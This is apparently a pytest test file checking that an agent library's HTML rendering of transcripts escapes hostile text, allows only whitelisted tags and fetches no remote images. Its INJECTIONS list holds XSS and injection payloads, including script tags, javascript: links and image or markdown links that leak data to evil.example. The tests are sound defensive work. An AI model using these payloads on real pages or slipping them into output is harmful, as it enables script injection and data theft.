"""HTML of results and transcripts: complete, and nothing in it comes from the model but text."""

import base64
import dataclasses
import re
from html.parser import HTMLParser

import pytest
from msgspec.structs import replace

from bridle import Agent, Media, Message, Text, ToolCall, ToolResult, Transcript, tool
from bridle.testing import scripted
from bridle.testing.scripted_model import call_reply
from bridle.values.message import Opaque, Reasoning
from bridle.values.text import HTML_CHARACTERS_MAX, render_note

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8/5+hHgAHggJ/PchI7wAAAABJRU5ErkJggg=="
)
TAGS = {"div", "pre", "b", "i", "details", "summary", "img"}
ATTRIBUTES = {"div": {"class", "style"}, "pre": {"style"}, "img": {"alt", "src", "style"}}
INJECTIONS = (
    "<script>alert(1)</script>",
    "</pre></div><script src=https://evil.example/x.js></script>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)",
    "<img src='https://evil.example/?leak=secret'>",
    "![x](https://evil.example/?leak=secret)",
    "[x](javascript:alert(1))",
    "<a href='javascript:alert(1)'>x</a>",
    "<svg/onload=alert(1)>",
    "<style>body{display:none}</style>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<!-- x --><![CDATA[<script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;",
    r"$\href{javascript:alert(1)}{x}$",
    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\ufeff",
    "\x00<scr\x00ipt>",
    "\ud800<b>",
    "{{constructor.constructor('alert(1)')()}}",
)


class Reader(HTMLParser):
    """Refuses every tag and attribute that the renderer does not write, and collects the text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.texts, self.open, self.pictures, self.in_pre = [], [], [], []

    def handle_starttag(self, tag, attrs):
        assert tag in TAGS, tag
        for name, value in attrs:
            assert name in ATTRIBUTES.get(tag, ()), (tag, name)
            assert "url(" not in value and "expression" not in value and "javascript" not in value
            if name == "src":
                assert re.fullmatch(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+", value)
                self.pictures.append(value)
        if tag != "img":
            self.open.append(tag)

    def handle_endtag(self, tag):
        assert self.open.pop() == tag

    def handle_data(self, data):
        self.texts.append(data)
        if "pre" in self.open:
            self.in_pre.append(data)

    def handle_comment(self, data):
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl):
        raise AssertionError(f"a declaration: {decl}")

    unknown_decl = handle_decl
    handle_pi = handle_decl


def read(html):
    reader = Reader()
    reader.feed(html)
    reader.close()
    assert not reader.open
    return reader


def hostile_transcript(text):
    return Transcript(
        messages=(
            Message(role="system", parts=(Text(text=text),), id=text),
            Message(
                role="user", parts=(Text(text=text), Media(kind="image", url=f"https://host/{safe(text)}"))
            ),
            Message(
                role="assistant",
                parts=(
                    Reasoning(text=text),
                    ToolCall(id=text, name=text, arguments=text),
                    Opaque(kind=text, native="{}", text=text),
                ),
            ),
            Message(
                role="tool",
                parts=(
                    ToolResult(
                        call_id=text,
                        outcome="error",
                        parts=(
                            Text(text=text),
                            Media.from_wire(kind="image", media_type="image/png", data=text, name=text),
                            Media.from_wire(kind="image", media_type=f"image/png{text}", data="AAAA"),
                            Media.from_wire(kind="image", media_type="image/svg+xml", data="PHN2Zz4="),
                            Media.from_wire(kind="image", media_type="image/png", url=text),
                        ),
                    ),
                ),
            ),
        )
    )


def safe(text):
    return text.encode("utf-8", "replace").decode()


@pytest.mark.parametrize("text", INJECTIONS)
def test_hostile_text_stays_text(text):
    html = hostile_transcript(text)._repr_html_()
    reader = read(html)
    assert reader.pictures == []
    html.encode()  # no half characters
    visible = [letter for letter in "".join(reader.texts) if not letter.isprintable() and letter != "\n"]
    assert visible == []
    if text.isprintable():
        assert "".join(reader.in_pre).count(text) >= 8


@pytest.mark.parametrize("text", INJECTIONS)
def test_a_hostile_run_stays_text(text):
    @tool(effect="read")
    def look() -> str:
        """Look."""
        return text

    given = text.replace("\ud800", "")
    result = Agent(scripted(call_reply(("look", {})), given), tools=[look]).run_sync(given)
    reader = read(replace_reason(result, text)._repr_html_())
    assert reader.pictures == []
    if given.isprintable():
        assert "".join(reader.in_pre).count(given) >= 4  # reason, answer, prompt, reply


def replace_reason(result, reason):
    return dataclasses.replace(result, reason=reason, session=reason)


def test_notes_are_escaped():
    for text in INJECTIONS:
        read(render_note(text))


def test_a_page_is_ignored_by_mathematics():
    html = Transcript(messages=(Message(role="user", parts=(Text(text="$x$"),)),))._repr_html_()
    assert html.startswith('<div class="bridle tex2jax_ignore mathjax_ignore">')
    assert read(html).in_pre == ["$x$"]


def test_pictures_with_data_are_shown_and_addresses_are_not_fetched():
    message = Message(
        role="user",
        parts=(Media.from_bytes(PNG, name="pixel"), Media.from_url("https://host/a.png"), Text(text="See?")),
    )
    reader = read(message._repr_html_())
    assert len(reader.pictures) == 1
    assert any("https://host/a.png" in text for text in reader.in_pre)


def test_long_texts_are_cut_and_say_so():
    message = Message(role="user", parts=(Text(text="x" * (HTML_CHARACTERS_MAX + 1_234)),))
    html = message._repr_html_()
    assert "… 1,234 more characters" in html
    assert len(html) < HTML_CHARACTERS_MAX + 2_000


@pytest.mark.parametrize("stop", ["done", "budget"])
def test_a_result_shows_how_it_ended_what_it_cost_and_the_conversation(stop):
    @tool(effect="read")
    def look(where: str) -> str:
        """Look."""
        return f"seen {where}"

    agent = Agent("sim:", tools=[look])
    result = agent.run_sync('!call look {"where": "here"}\n!then\n!say It is & here.', session="trip")
    shown = "".join(read(dataclasses.replace(result, stop=stop)._repr_html_()).texts)
    assert stop in shown and "It is & here." in shown
    assert "2 steps" in shown and "session trip" in shown and "$" in shown
    assert "4 messages" in shown and 'look({"where":' in shown.replace(" ", "") and "seen here" in shown
    assert replace(result.messages[0], id="m9")._repr_html_().count("m9") == 1
